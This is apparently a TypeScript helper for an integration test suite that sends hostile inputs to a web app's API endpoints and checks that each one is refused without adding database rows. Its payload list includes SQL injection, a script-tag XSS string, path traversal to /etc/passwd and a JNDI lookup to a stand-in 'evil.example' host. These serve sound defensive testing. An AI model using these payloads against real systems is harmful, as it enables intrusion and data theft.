// Hostile inputs for hostile-input.int.test.ts: the texts, wrong types and bodies every entry point must refuse.'
import { expect } from "vitest";
import { PEER_HEADER } from "@/lib/core/api/client-ip";

type Db = (typeof import("@/lib/core/db"))["db"];
const CALL_TIMEOUT_MS = 10_000;
/** How many inputs each endpoint was sent (printed by the suite). */
export const tried: Record<string, number> = {};
let ipSeq = 0;

/** Text that has broken parsers, databases, templates and logs somewhere. */
export const HOSTILE_TEXT = [
  "\u0000",
  "E1\u0000",
  "\u0000\u0000\u0000",
  "\u0001",
  "\u0007bell",
  "\u001b[31mred",
  "\u007f",
  "\u0008\u000b\u000c",
  "\ud800",
  "\udfff",
  "a\ud83d",
  "\udc00\ud800",
  '\'; DROP TABLE "CallbackEvent"; --',
  "' OR '1'='1",
  "1; SELECT pg_sleep(30)",
  "<script>alert(1)</script>",
  "{{7*7}}${7*7}",
  "${jndi:ldap://evil.example/a}",
  "../../../../etc/passwd",
  "%00%2e%2e%2f",
  "\u202egnp.exe",
  "$where: 1",
  "x".repeat(300_000),
];
/** Values of the wrong JSON type for a string field. */
export const WRONG_TYPES: unknown[] = [null, 0, -1, 1e308, true, [], ["a"], {}, { $gt: "" }];

export type Input = {
  label: string;
  method?: string;
  path?: string;
  query?: string;
  headers?: Record<string, string>;
  body?: string | Uint8Array;
  params?: Record<string, string>;
};

export const json = (value: unknown) => JSON.stringify(value);
/** For a query string: lone surrogates cannot be percent-encoded, so they travel as NUL. */
export const enc = (text: string) => encodeURIComponent(text.replace(/[\ud800-\udfff]/g, "\u0000"));
export const deep = (n: number) => "[".repeat(n) + "]".repeat(n);
export const deepObject = (n: number) => '{"a":'.repeat(n) + "1" + "}".repeat(n);

/** Raw bodies any JSON endpoint must refuse. */
export function rawBodies(valid: Record<string, unknown>): Input[] {
  const text = json(valid);
  return [
    { label: "empty body", body: "" },
    { label: "whitespace body", body: "   " },
    { label: "not JSON", body: "not json" },
    { label: "truncated JSON", body: text.slice(0, -3) },
    { label: "trailing garbage", body: `${text} x` },
    { label: "single quotes", body: text.replaceAll('"', "'") },
    { label: "JSON array", body: "[]" },
    { label: "JSON null", body: "null" },
    { label: "JSON number", body: "42" },
    { label: "JSON string", body: '"x"' },
    { label: "depth 64", body: `{"x":${deep(64)}}` },
    { label: "depth 5000 arrays", body: deep(5000) },
    { label: "depth 5000 objects", body: deepObject(5000) },
    { label: "duplicated key", body: text.replace("{", '{"dup":1,"dup":2,') },
    { label: "NUL escaped in a key", body: text.replace("{", '{"k\\u0000":1,') },
    { label: "lone surrogate escaped in a key", body: text.replace("{", '{"\\ud800":1,') },
    { label: "raw NUL inside a string", body: text.replace(/"([^"]+)"/, '"$1\u0000"') },
    {
      label: "invalid UTF-8 (0xff)",
      body: Buffer.concat([Buffer.from(text), Buffer.from([0xff])]),
    },
    {
      label: "invalid UTF-8 inside a string",
      body: Buffer.from(
        text.replace(/"([^"]+)"/, '"$1\u0001"').replace("\u0001", "\u00ff"),
        "latin1",
      ),
    },
    {
      label: "overlong UTF-8 NUL",
      body: Buffer.from([0x7b, 0x22, 0xc0, 0x80, 0x22, 0x3a, 0x31, 0x7d]),
    },
    { label: "UTF-8 encoded surrogate", body: Buffer.from([0x22, 0xed, 0xa0, 0x80, 0x22]) },
    { label: "UTF-16 body", body: Buffer.from(text, "utf16le") },
    { label: "5 MB body", body: `{"pad":"${"x".repeat(5 * 1024 * 1024)}"}` },
    { label: "300 KB of spaces", body: " ".repeat(300 * 1024) },
    { label: "huge number", body: text.replace("{", '{"n":1e999,') },
    { label: "text/plain", body: text, headers: { "content-type": "text/plain" } },
    {
      label: "form encoded",
      body: "id=1&type=x",
      headers: { "content-type": "application/x-www-form-urlencoded" },
    },
    {
      label: "multipart",
      body: "--b\r\n\r\nx\r\n--b--",
      headers: { "content-type": "multipart/form-data; boundary=b" },
    },
    { label: "no content type", body: text, headers: { "content-type": "" } },
    { label: "XML", body: "<a>1</a>", headers: { "content-type": "application/xml" } },
    {
      label: "declared length over the limit",
      body: text,
      headers: { "content-length": String(64 * 1024 * 1024) },
    },
  ];
}

/** Every hostile text and wrong type in each named field of an otherwise valid body. */
export function fieldInputs(valid: Record<string, unknown>, fields: string[]): Input[] {
  const out: Input[] = [];
  for (const field of fields) {
    const set = (value: unknown) => {
      const copy = structuredClone(valid);
      const path = field.split(".");
      let at = copy as Record<string, unknown>;
      for (const key of path.slice(0, -1)) at = at[key] as Record<string, unknown>;
      at[path[path.length - 1]] = value;
      return json(copy);
    };
    for (const [i, text] of HOSTILE_TEXT.entries())
      out.push({ label: `${field} = hostile text #${i}`, body: set(text) });
    for (const value of WRONG_TYPES)
      out.push({ label: `${field} = ${json(value)}`, body: set(value) });
  }
  return out;
}

/** Forged, missing or odd credentials and headers. */
export function forgedAuth(valid: string): Input[] {
  const inputs: Input[] = [
    { label: "no authorization", headers: { authorization: "" } },
    { label: "Basic auth", headers: { authorization: "Basic YWRtaW46YWRtaW4=" } },
    { label: "bearer without token", headers: { authorization: "Bearer " } },
    {
      label: "forged obt token",
      headers: { authorization: `Bearer obt_aaaaaaaa_${"b".repeat(43)}` },
    },
    { label: "token with NUL", headers: { authorization: "Bearer obt_%00\u00ff" } },
    { label: "token of 10 KB", headers: { authorization: `Bearer obt_${"a".repeat(10_000)}` } },
    { label: "SQL in token", headers: { authorization: "Bearer obt_' OR '1'='1" } },
    {
      label: "valid token with a flipped char",
      headers: { authorization: `Bearer ${valid.slice(0, -1)}x` },
    },
    { label: "valid token twice", headers: { authorization: `Bearer ${valid} ${valid}` } },
    {
      label: "forged x-forwarded-for with no token",
      headers: { authorization: "", "x-forwarded-for": "127.0.0.1, 10.0.0.1" },
    },
  ];
  return inputs.map((i) => ({ ...i, headers: { ...i.headers, "x-skip-auth": "1" } }));
}

/** Rows that no refused input may add. (The API request log is meant to grow.) */
export const rowCounts = async (db: Db) => ({
  callbackEvent: await db.callbackEvent.count(),
  callbackDelivery: await db.callbackDelivery.count(),
  notification: await db.notification.count(),
  notificationDelivery: await db.notificationDelivery.count(),
  employee: await db.employee.count(),
  orgUnit: await db.orgUnit.count(),
  jobEvent: await db.jobEvent.count(),
  jobFunction: await db.jobFunction.count(),
  auditLog: await db.auditLog.count(),
  connection: await db.connection.count(),
});

export type RouteHandler = (req: Request, ctx: { params: Promise<never> }) => Promise<Response>;

/** Sends one input and checks the answer: 4xx, JSON, an error object, within the timeout. */
export async function expectRefusedInput({
  endpoint,
  path,
  handler,
  input,
  auth,
}: {
  endpoint: string;
  path: string;
  handler: RouteHandler;
  input: Input;
  auth: string;
}) {
  const headers = new Headers({ "content-type": "application/json" });
  // A fresh socket address per call (as the app server records it): these checks are about
  // input, not about the rate limiter.
  headers.set(PEER_HEADER, `10.${ipSeq >> 16}.${(ipSeq >> 8) & 255}.${ipSeq++ & 255}`);
  if (auth) headers.set("authorization", `Bearer ${auth}`);
  for (const [k, v] of Object.entries(input.headers ?? {})) {
    if (k === "x-skip-auth") continue;
    if (v === "") headers.delete(k);
    else headers.set(k, v);
  }
  const method = input.method ?? (input.body === undefined ? "GET" : "POST");
  const url = `http://orgbridge.test${input.path ?? path}${input.query ?? ""}`;
  const request = new Request(url, {
    method,
    headers,
    body: method === "GET" || method === "HEAD" ? undefined : ((input.body ?? "") as BodyInit),
  });
  let timer: NodeJS.Timeout | undefined;
  const res = await Promise.race([
    handler(request, { params: Promise.resolve(input.params ?? {}) as Promise<never> }),
    new Promise<never>((_, reject) => {
      timer = setTimeout(
        () => reject(new Error(`${endpoint} ${input.label}: no answer in ${CALL_TIMEOUT_MS} ms`)),
        CALL_TIMEOUT_MS,
      );
    }),
  ]).finally(() => clearTimeout(timer));
  const text = await res.text();
  const what = `${method} ${endpoint} — ${input.label}: ${res.status} ${text.slice(0, 300)}`;
  expect(res.status, what).toBeGreaterThanOrEqual(400);
  expect(res.status, what).toBeLessThan(500);
  expect(res.headers.get("content-type"), what).toMatch(/application\/json/);
  const body = JSON.parse(text) as {
    error?: { code?: unknown; message?: unknown } | string;
    message?: unknown;
  };
  if (path === "/api/inngest" && typeof body.error !== "object") {
    // The Inngest SDK answers in its own shape: {"message": "..."} or {"error": "..."}.
    const message = typeof body.error === "string" ? body.error : body.message;
    expect(typeof message, what).toBe("string");
  } else {
    const error = body.error as { code?: unknown; message?: unknown } | undefined;
    expect(typeof error?.code, what).toBe("string");
    expect(typeof error?.message, what).toBe("string");
  }
  tried[endpoint] = (tried[endpoint] ?? 0) + 1;
}

export async function runHostile(
  db: Db,
  {
    endpoint,
    path,
    handler,
    inputs,
    auth,
  }: { endpoint: string; path: string; handler: RouteHandler; inputs: Input[]; auth: string },
) {
  expect(inputs.length).toBeGreaterThanOrEqual(100);
  const before = await rowCounts(db);
  for (const input of inputs)
    await expectRefusedInput({
      endpoint,
      path,
      handler,
      input,
      auth: input.headers?.["x-skip-auth"] ? "" : auth,
    });
  expect(await rowCounts(db)).toEqual(before);
}
